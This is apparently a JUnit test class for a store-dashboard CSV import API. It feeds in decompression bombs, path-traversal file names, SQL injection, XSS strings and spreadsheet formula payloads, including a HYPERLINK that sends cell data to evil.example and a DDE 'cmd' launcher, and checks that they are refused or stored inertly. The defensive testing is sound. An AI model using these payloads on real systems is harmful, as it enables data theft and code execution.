package io.storedash.standalone;

import io.vertx.core.MultiMap;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpRequest;
import io.vertx.ext.web.client.HttpResponse;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipInputStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A corpus of bad files sent through the real {@code POST /api/v1/imports} of a whole StoreDash (gateway → event
 * bus → query-service → PostgreSQL): every defect the importer knows, plus huge lines, a million columns, binary
 * data, decompression bombs (a gzip request body, gzip and ZIP parts of a form), broken forms. Each is answered 4xx
 * with a problem that says precisely what is wrong, never 5xx, never a stack trace, and every table of the database
 * is byte for byte what it was. Then the files that look hostile but are valid — formula cells, SQL and HTML in
 * names, mixed line endings — are imported and their text is stored exactly as written.
 */
class HostileImportTest {

  private static final String BOUNDARY = "----storedash-hostile-7MA4YWxkTrZu0gW";
  private static final String HEADER = "order_id,store_code,store_name,channel,ordered_at,sku,product_name,category,"
    + "quantity,unit_price,list_price,unit_cost,delivery_cost,platform_fee,discount,customer_delivery_fee,packaging_fee";
  private static final String LINE = "A1,S001,和兴路店,meituan,2026-10-01 12:00:00,P1,可乐,饮料,1,3.50,3.50,1.20,,,,,";

  private static HostileStack stack;
  private static final List<String> table = new ArrayList<>();

  @BeforeAll
  static void start() {
    stack = new HostileStack();
  }

  @AfterAll
  static void stop() {
    stack.close();
    System.out.println("| case | status | reason |\n|---|---|---|\n" + String.join("\n", table));
  }

  /** An answer as the test reads it. */
  record Answer(int status, String contentType, String body) {
  }

  /** One bad request: how to send it, and what must come back. */
  record Case(String name, Supplier<Answer> send, int status, String... expected) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Arguments> corpus() {
    List<Case> cases = List.of(
      csvFile("missing-columns.csv", 422, "required column 销量 / quantity is missing"),
      // 销量 0 (a refunded line) and a list price below the price are accepted now; the file is refused for the others.
      csvFile("bad-numbers.csv", 422, "quantity: must be a whole number, got 'two'", "unit_price: must not be negative, got -3.50",
        "unit_price: has more than 2 decimals (cents), got 3.505",
        "quantity: must be from -1000000 to 1000000, got 1000001", "unit_price: is too large: 99999999999.99",
        "delivery_cost: must be an amount of yuan like 12.50, got 'NaN'"),
      csvFile("bad-times.csv", 422, "line 2 ordered_at: is not a real date and time: '2026-13-01 12:00:00'",
        "line 3 ordered_at: must be a time like 2026-03-01 12:30:00 (store-local) or 2026-03-01T12:30:00+08:00, got 'yesterday'",
        "is not a real date and time: '2026-02-30 10:00:00'", "between the years 2000 and 2100, got '1999-12-31 23:59:59'"),
      new Case("empty file (0 bytes)", () -> postCsv(new byte[0], "text/csv"), 400, "the file is empty"),
      csvFile("header-only.csv", 422, "the file has a header row but no order lines"),
      csvFile("wrong-field-counts.csv", 422, "line 2 -: has 19 fields where the header has 17",
        "line 3 -: has 10 field(s) where the header has 17"),
      csvFile("mixed-stores.csv", 422, "order M1 mixes stores: 'S002' here, 'S001' on line 2"),
      csvFile("inconsistent-order.csv", 422, "order C1 is 'eleme' here but 'meituan' on line 2",
        "order C1 has delivery_cost 6.00 here but 5.00 on line 2"),
      new Case("an order of 10,001 lines", HostileImportTest::aHugeOrder, 422,
        "order L1 has 10001 lines, more than the 10000 one order may have"),
      csvFile("reserved-store-code.csv", 422, "line 2 store_code: 'all' is reserved (in any case)",
        "line 3 store_code: 'All' is reserved (in any case)"),
      csvFile("store-code-case.csv", 422, "store code 's001' differs only in case from the existing store 'S001'"),
      csvFile("overflowing-totals.csv", 422, "line 2 list_price: makes the line total quantity 1000000 × 99999999.99 = "
        + "99999999990000.00 yuan, more than the limit of 100000000.00 yuan for one line"),
      new Case("an order id that another store holds", HostileImportTest::moveAnOrder, 422, "belongs to store S001"),
      csvFile("unclosed-quote.csv", 422, "a quoted field starts here and is never closed"),
      csvFile("not-an-export.csv", 400, "the first line names none of the columns of an order export"),
      csvFile("injection-in-keys.csv", 422, "store_code: must be letters, digits, _ or - (at most 32), got 'S001'; DROP TABLE orders;--'",
        "store_code: must be letters, digits, _ or - (at most 32), got '../../etc'"),
      csvFile("control-chars.csv", 422, "product_name: contains the control character U+0007"),
      csvFile("overlong-cells.csv", 422, "store_name: is longer than 100 characters (101)", "order_id: is longer than 64 characters (65)"),
      csvFile("latin1.csv", 400, "the file is neither UTF-8 nor GBK text"),
      csvFile("utf16.csv", 400, "the file is UTF-16 text"),
      csvFile("mixed-line-endings-bad.csv", 422, "line 4 quantity: must be a whole number, got '-1.5'"),
      new Case("a 10 MiB line (one field)", () -> postCsv(utf8(HEADER + "\n" + "B1,S001,店,meituan,2026-10-01 12:00:00,P1,"
        + "x".repeat(10 << 20) + ",饮料,1,3.50,3.50,1.20,,,,,\n"), "text/csv"), 422,
        "line 2 -: a field is longer than 4096 characters"),
      new Case("a header of 10^6 columns", () -> postCsv(utf8("c,".repeat(1_000_000) + "\n" + LINE + "\n"), "text/csv"), 422,
        "line 1 -: the line has more than 256 fields"),
      new Case("a line of 10^6 columns", () -> postCsv(utf8(HEADER + "\n" + "1,".repeat(1_000_000) + "\n"), "text/csv"), 422,
        "line 2 -: the line has more than 256 fields"),
      // application/octet-stream is accepted (a workbook may come as it): the content decides, and this is no text.
      new Case("binary data (1 MiB of random bytes)", () -> postCsv(random(1 << 20, 7), "application/octet-stream"), 400,
        "the file is neither UTF-8 nor GBK text"),
      new Case("binary data sent as text/csv", () -> postCsv(random(1 << 20, 7), "text/csv"), 400,
        "the file is neither UTF-8 nor GBK text"),
      new Case("binary with NUL bytes after a header", () -> postCsv(concat(utf8(HEADER + "\n"), new byte[4096]), "text/csv"), 400,
        "the file contains a NUL byte at byte 189: it is a binary file, not CSV text"),
      new Case("gzip bomb as the request body (Content-Encoding: gzip, 4 GiB inflated)",
        () -> send(post("text/csv").putHeader("Content-Encoding", "gzip"), Bombs.gzip(4096)), 415,
        "compressed uploads are not accepted (Content-Encoding: gzip)"),
      new Case("multipart form with Content-Encoding: deflate", () -> send(post(multipartType()).putHeader("Content-Encoding", "deflate"),
        multipart(part("file", "orders.csv", "text/csv", Map.of(), utf8(HEADER + "\n" + LINE)))), 415,
        "compressed uploads are not accepted (Content-Encoding: deflate)"),
      new Case("gzip bomb as the form's file (1 GiB inflated)", () -> sendForm(part("file", "orders.csv.gz", "application/gzip",
        Map.of(), Bombs.gzip(1024))), 400, "the file is gzip-compressed, not CSV text"),
      // A ZIP archive may be an .xlsx workbook: its directory is read, never its 1 GiB entry.
      new Case("ZIP bomb as the form's file (one 1 GiB entry)", () -> sendForm(part("file", "orders.zip", "application/zip",
        Map.of(), Bombs.zip("orders.csv", 1024))), 400, "the file is not an .xlsx workbook: it is a ZIP archive without xl/workbook.xml"),
      new Case("form part with Content-Transfer-Encoding: base64", () -> sendForm(part("file", "orders.csv", "text/csv",
        Map.of("Content-Transfer-Encoding", "base64"), utf8(java.util.Base64.getEncoder().encodeToString(utf8(HEADER + "\n" + LINE))))),
        400, "a part of the form uses a Content-Transfer-Encoding that is not read here"),
      new Case("form without a part named 'file'", () -> sendForm(part("attachment", "orders.csv", "text/csv", Map.of(),
        utf8(HEADER + "\n" + LINE))), 400, "the form has no file part named 'file'"),
      new Case("form with 1,000 fields before the file", () -> sendForm(manyFields(1000)), 400,
        "the form has too many parts (at most 64)"),
      new Case("file name with a path (../../../etc/passwd)", () -> sendForm(part("file", "../../../etc/passwd", "text/csv",
        Map.of(), resource("bad-numbers.csv"))), 422, "\"file\":\"passwd\""),
      new Case("JSON instead of CSV", () -> postCsv(utf8("{\"orders\": []}"), "application/json"), 415,
        "or as the part 'file' of a multipart/form-data form; got application/json"),
      new Case("no Content-Type", () -> send(stack.client.post("/api/v1/imports").bearerTokenAuthentication(HostileStack.TOKEN),
        utf8(HEADER + "\n" + LINE)), 415, "got no Content-Type"),
      new Case("declared 257 MiB", () -> send(post("text/csv").putHeader("Content-Length", String.valueOf(257L << 20)), null), 413,
        "the file is larger than the 256 MiB an import may be"),
      new Case("streamed 257 MiB (chunked, no length)", HostileImportTest::streamOversize, 413,
        "the file is larger than the 256 MiB an import may be"),
      new Case("no credentials", () -> send(stack.client.post("/api/v1/imports").putHeader("Content-Type", "text/csv"),
        utf8(HEADER + "\n" + LINE)), 401, "this route needs Authorization: Bearer <token>"));
    return cases.stream().map(Arguments::of);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void aBadFileIsRefusedWithItsReasonAndChangesNothing(Case c) {
    Map<String, String> before = stack.tables();
    long t0 = System.nanoTime();
    Answer answer = c.send().get();
    long ms = (System.nanoTime() - t0) / 1_000_000;
    assertThat(answer.status()).as(c.name() + ": " + answer.body()).isEqualTo(c.status());
    JsonObject problem = HostileStack.problem(answer.status(), answer.contentType(), answer.body());
    String shown = problem.getString("detail") + " " + rejected(problem);
    for (String expected : c.expected()) {
      assertThat(expected.startsWith("\"") ? answer.body() : shown).as(c.name()).contains(expected);
    }
    assertThat(stack.tables()).as("every table after " + c.name()).isEqualTo(before);
    String reason = problem.getString("detail") + (problem.containsKey("rejected") && !problem.getJsonArray("rejected").isEmpty()
      ? " — first: " + first(problem) : "");
    table.add(String.format(Locale.ROOT, "| %s | %d | %s (%d ms) |", c.name(), answer.status(), reason.replace("|", "\\|"), ms));
  }

  @Test
  void cellsThatLookHostileButAreValidAreStoredAsText() {
    List<String> names = List.of("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")", "+1+1", "-20% 特价", "@SUM(A1:A9)",
      "=cmd|' /C calc'!A0", "Robert'); DROP TABLE products;--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
      "{\"$where\": \"1 == 1\"}", "../../etc/passwd", "💥 𝕊𝕥𝕠𝕣𝕖 ‮reversed‬");
    StringBuilder csv = new StringBuilder(HEADER).append('\n');
    for (int i = 0; i < names.size(); i++) {
      // The till (offline) charges no service fee: these orders are valid without one and show in the product view.
      csv.append("F").append(i).append(",S901,\"=1+1 店\",offline,2026-10-01 12:00:00,FX").append(i).append(',')
        .append(quoted(names.get(i))).append(',').append(quoted(names.get((i + 3) % names.size())))
        .append(",1,3.50,3.50,1.20,,,,,").append(i % 3 == 0 ? "\r\n" : i % 3 == 1 ? "\n" : "\r");
    }
    // One more cell with a tab and one with a carriage return in front: white space around a cell is trimmed.
    csv.append("F99,S901,\"=1+1 店\",offline,2026-10-01 12:00:00,FX99,\"\t=1+2\",\"\r@cat\",1,3.50,3.50,1.20,,,,,\n");
    Answer answer = postCsv(utf8(csv.toString()), "text/csv; charset=utf-8");
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    JsonObject report = new JsonObject(answer.body());
    assertThat(report.getLong("lines")).isEqualTo(names.size() + 1);
    assertThat(report.getJsonArray("stores")).containsExactly("S901");

    HttpResponse<Buffer> products = stack.client.get("/api/v1/stores/S901/products?from=2026-10-01&to=2026-10-01&size=200")
      .bearerTokenAuthentication(HostileStack.TOKEN).send().await();
    assertThat(products.statusCode()).isEqualTo(200);
    List<String> stored = new ArrayList<>();
    List<String> categories = new ArrayList<>();
    products.bodyAsJsonObject().getJsonArray("products").forEach(p -> {
      stored.add(((JsonObject) p).getString("name"));
      categories.add(((JsonObject) p).getString("category"));
    });
    List<String> expectedNames = new ArrayList<>(names);
    expectedNames.add("=1+2");
    assertThat(stored).containsExactlyInAnyOrderElementsOf(expectedNames);
    assertThat(categories).contains("@cat", names.get(3));
    HttpResponse<Buffer> stores = stack.client.get("/api/v1/stores").bearerTokenAuthentication(HostileStack.TOKEN).send().await();
    assertThat(stores.bodyAsString()).contains("{\"code\":\"S901\",\"name\":\"=1+1 店\"");
    // The tables the SQL-looking text named are all still there.
    assertThat(stack.tables()).containsKeys("products", "orders");
  }

  @Test
  void mixedLineEndingsAreOneFile() {
    String csv = HEADER + "\r\n" + LINE.replace("A1,S001", "E1,S902") + "\n" + LINE.replace("A1,S001", "E2,S902") + "\r"
      + LINE.replace("A1,S001", "E3,S902") + "\r\n" + LINE.replace("A1,S001", "E4,S902");
    Answer answer = postCsv(utf8(csv), "text/csv");
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    assertThat(new JsonObject(answer.body()).getLong("lines")).isEqualTo(4);
    assertThat(new JsonObject(answer.body()).getLong("orders")).isEqualTo(4);
  }

  @Test
  void theBombsAreRealBombs() throws IOException {
    // Small versions of the same construction inflate to exactly what they claim: the big ones are real bombs.
    byte[] gz = Bombs.gzip(3);
    try (InputStream in = new GZIPInputStream(new java.io.ByteArrayInputStream(gz))) {
      assertThat(in.readAllBytes()).hasSize(3 << 20).containsOnly(0);
    }
    try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(Bombs.zip("orders.csv", 3)))) {
      assertThat(in.getNextEntry().getName()).isEqualTo("orders.csv");
      assertThat(in.readAllBytes()).hasSize(3 << 20).containsOnly(0);
    }
    System.out.printf("bombs: gzip %,d bytes → 4 GiB, zip %,d bytes → 1 GiB%n", Bombs.gzip(4096).length,
      Bombs.zip("orders.csv", 1024).length);
  }

  // ---- how the cases are sent ------------------------------------------------------------------------------

  /** S001's newest order, sent again under S002: an order belongs to one store and must not move. */
  /** One order id on 10,001 lines: no basket has them, so the file is refused before anything is written. */
  private static Answer aHugeOrder() {
    StringBuilder csv = new StringBuilder(HEADER).append('\n');
    for (int i = 0; i <= 10_000; i++) {
      csv.append("L1,S001,店,meituan,2026-10-01 12:00:00,P").append(i).append(",可乐").append(i).append(",饮料,1,3.50,3.50,1.20,,,,,\n");
    }
    return postCsv(utf8(csv.toString()), "text/csv");
  }

  private static Answer moveAnOrder() {
    JsonObject page = stack.client.get("/api/v1/stores/S001/orders").bearerTokenAuthentication(HostileStack.TOKEN).send().await()
      .bodyAsJsonObject();
    String order = page.getJsonArray("lines").getJsonObject(0).getString("order_id");
    return postCsv(utf8(HEADER + "\n" + order + ",S002,店,meituan,2026-10-01 12:00:00,P1,可乐,饮料,1,3.50,3.50,1.20,,,,,\n"),
      "text/csv");
  }

  private static Case csvFile(String resource, int status, String... expected) {
    return new Case(resource, () -> postCsv(resource(resource), "text/csv"), status, expected);
  }

  private static HttpRequest<Buffer> post(String contentType) {
    return stack.client.post("/api/v1/imports").bearerTokenAuthentication(HostileStack.TOKEN).putHeader("Content-Type", contentType)
      .timeout(120_000);
  }

  private static Answer postCsv(byte[] bytes, String contentType) {
    return send(post(contentType), bytes);
  }

  private static Answer send(HttpRequest<Buffer> request, byte[] body) {
    HttpResponse<Buffer> response = (body == null ? request.send() : request.sendBuffer(Buffer.buffer(body))).await();
    return new Answer(response.statusCode(), response.getHeader("Content-Type"), response.bodyAsString());
  }

  private record Part(String name, String filename, String contentType, Map<String, String> headers, byte[] content) {
  }

  private static Part part(String name, String filename, String contentType, Map<String, String> headers, byte[] content) {
    return new Part(name, filename, contentType, headers, content);
  }

  private static String multipartType() {
    return "multipart/form-data; boundary=" + BOUNDARY;
  }

  private static Answer sendForm(Part... parts) {
    return send(post(multipartType()), multipart(parts));
  }

  private static byte[] multipart(Part... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (Part p : parts) {
      StringBuilder head = new StringBuilder("--").append(BOUNDARY).append("\r\nContent-Disposition: form-data; name=\"")
        .append(p.name()).append('"');
      if (p.filename() != null) {
        head.append("; filename=\"").append(p.filename()).append('"');
      }
      head.append("\r\n");
      if (p.contentType() != null) {
        head.append("Content-Type: ").append(p.contentType()).append("\r\n");
      }
      p.headers().forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
      out.writeBytes(utf8(head.append("\r\n").toString()));
      out.writeBytes(p.content());
      out.writeBytes(utf8("\r\n"));
    }
    out.writeBytes(utf8("--" + BOUNDARY + "--\r\n"));
    return out.toByteArray();
  }

  private static Part[] manyFields(int count) {
    Part[] parts = new Part[count + 1];
    for (int i = 0; i < count; i++) {
      parts[i] = part("field" + i, null, null, Map.of(), utf8("v"));
    }
    parts[count] = part("file", "orders.csv", "text/csv", Map.of(), utf8(HEADER + "\n" + LINE));
    return parts;
  }

  /** 257 MiB in chunks with no Content-Length: the limit must hold on what arrives, not only on what is announced. */
  private static Answer streamOversize() {
    try (Socket socket = new Socket("127.0.0.1", stack.port())) {
      socket.setSoTimeout(120_000);
      OutputStream out = socket.getOutputStream();
      out.write(utf8("POST /api/v1/imports HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + HostileStack.TOKEN
        + "\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n"));
      // A quote that never closes: query-service stops parsing at once and only counts what follows.
      byte[] mib = new byte[1 << 20];
      Arrays.fill(mib, (byte) 'x');
      byte[] head = utf8(HEADER + "\n\"");
      out.write(utf8(Integer.toHexString(head.length) + "\r\n"));
      out.write(head);
      out.write(utf8("\r\n"));
      try {
        for (int i = 0; i < 257; i++) {
          out.write(utf8(Integer.toHexString(mib.length) + "\r\n"));
          out.write(mib);
          out.write(utf8("\r\n"));
        }
        out.write(utf8("0\r\n\r\n"));
      } catch (SocketException e) {
        // the gateway refused the rest: read its answer
      }
      return parse(socket.getInputStream());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Answer parse(InputStream in) throws IOException {
    ByteArrayOutputStream raw = new ByteArrayOutputStream();
    byte[] buffer = new byte[8192];
    int n;
    try {
      while ((n = in.read(buffer)) > 0) {
        raw.write(buffer, 0, n);
        String text = raw.toString(StandardCharsets.UTF_8);
        int split = text.indexOf("\r\n\r\n");
        if (split > 0 && text.substring(split).contains("}")) {
          break;
        }
      }
    } catch (SocketException e) {
      // closed after the answer
    }
    String text = raw.toString(StandardCharsets.UTF_8);
    int split = text.indexOf("\r\n\r\n");
    String head = text.substring(0, split);
    String contentType = head.lines().filter(l -> l.toLowerCase(Locale.ROOT).startsWith("content-type:"))
      .map(l -> l.substring(13).trim()).findFirst().orElse(null);
    String body = text.substring(split + 4);
    if (head.toLowerCase(Locale.ROOT).contains("transfer-encoding: chunked")) {
      body = body.substring(body.indexOf("\r\n") + 2, body.lastIndexOf('}') + 1);
    }
    return new Answer(Integer.parseInt(head.substring(9, 12)), contentType, body);
  }

  private static String rejected(JsonObject problem) {
    JsonArray rejected = problem.getJsonArray("rejected");
    if (rejected == null) {
      return "";
    }
    StringBuilder text = new StringBuilder();
    rejected.forEach(r -> {
      JsonObject entry = (JsonObject) r;
      text.append(" | line ").append(entry.getValue("line")).append(' ')
        .append(entry.getString("column") == null ? "-" : entry.getString("column")).append(": ").append(entry.getString("reason"));
    });
    return text.toString();
  }

  private static String first(JsonObject problem) {
    JsonObject entry = problem.getJsonArray("rejected").getJsonObject(0);
    return "line " + entry.getValue("line") + " " + (entry.getString("column") == null ? "" : entry.getString("column") + ": ")
      + entry.getString("reason");
  }

  private static String quoted(String value) {
    return "\"" + value.replace("\"", "\"\"") + "\"";
  }

  private static byte[] resource(String name) {
    try (InputStream in = HostileImportTest.class.getResourceAsStream("/hostile/" + name)) {
      return in.readAllBytes();
    } catch (IOException | NullPointerException e) {
      throw new IllegalStateException("missing test resource hostile/" + name, e);
    }
  }

  private static byte[] random(int size, long seed) {
    byte[] bytes = new byte[size];
    new Random(seed).nextBytes(bytes);
    return bytes;
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] c = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, c, a.length, b.length);
    return c;
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
